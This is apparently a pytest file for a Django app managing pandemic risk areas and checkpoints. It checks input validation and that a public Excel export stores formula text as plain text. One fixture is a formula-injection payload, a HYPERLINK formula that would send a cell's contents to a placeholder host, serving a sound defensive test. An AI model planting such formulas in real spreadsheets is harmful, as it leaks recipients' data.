"""Input that once failed the server: a clear 4xx and nothing written; the public export is
safe to open (no cell of it is a formula)."""

import datetime
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from pingji.areas.actions import checkpoints, publishing
from pingji.areas.models import CheckpointDay, LiftingStep
from pingji.areas.tests.factories import RiskAreaFactory

from .conftest import at

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


def sheets_xml(content: bytes) -> str:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return "".join(
        archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
    )


def test_the_public_export_writes_formula_text_as_text(client, commander, tree):
    RiskAreaFactory(
        jurisdiction=tree["350322"], name=FORMULA, legal_basis="=1+1", measures="@SUM(A1)"
    )
    publishing.do_publish(tree["350322"], actor=commander, at=at(9, 15))
    export = client.get(reverse("areas:public_export"))  # anonymous
    assert export.status_code == 200
    xml = sheets_xml(export.content)
    assert "<f>" not in xml and "<f " not in xml
    row = [c for c in load_workbook(io.BytesIO(export.content)).worksheets[0][2]]
    cells = {c.value: c.data_type for c in row}
    assert cells[FORMULA] == "s" and cells["=1+1"] == "s" and cells["@SUM(A1)"] == "s"


@pytest.fixture
def checkpoint(tree, county_user):
    return checkpoints.do_create_checkpoint(
        actor=county_user,
        jurisdiction=tree["350322"],
        name="仙游收费站",
        kind="highway_exit",
        rules="查验48小时核酸阴性证明",
        since=at(9, 12),
    )


def test_a_checkpoint_day_without_its_counts_is_refused(api, county_user, checkpoint):
    url = f"/api/areas/checkpoints/{checkpoint.pk}/days/"
    answer = api(county_user).post(url, {"day": "2021-09-13"}, format="json")
    assert answer.status_code == 400
    assert {"vehicles", "persons", "turned_back"} <= set(answer.json())
    with pytest.raises(ValidationError) as exc:  # the action itself, called without them
        checkpoints.do_record_checkpoint_day(
            checkpoint, actor=county_user, day=datetime.date(2021, 9, 13)
        )
    assert "vehicles" in exc.value.message_dict
    assert not CheckpointDay.objects.exists()


def test_a_count_beyond_the_column_is_refused_on_the_page(client, county_user, checkpoint):
    client.force_login(county_user)
    page = client.post(
        reverse("areas:checkpoint_day", args=[checkpoint.pk]),
        {"day": "2021-09-13", "vehicles": 10**30, "persons": 1, "turned_back": 0},
    )
    assert page.status_code == 400 and "A count of zero or more" in page.content.decode()
    assert not CheckpointDay.objects.exists()


def test_taking_a_lifting_step_by_a_malformed_id_is_not_found(api, commander, checkpoint):
    answer = api(commander).post("/api/areas/lifting-steps/abc/take/", {}, format="json")
    assert answer.status_code == 404
    answer = api(commander).post(f"/api/areas/lifting-steps/{10**25}/take/", {}, format="json")
    assert answer.status_code == 404
    assert not LiftingStep.objects.exists()
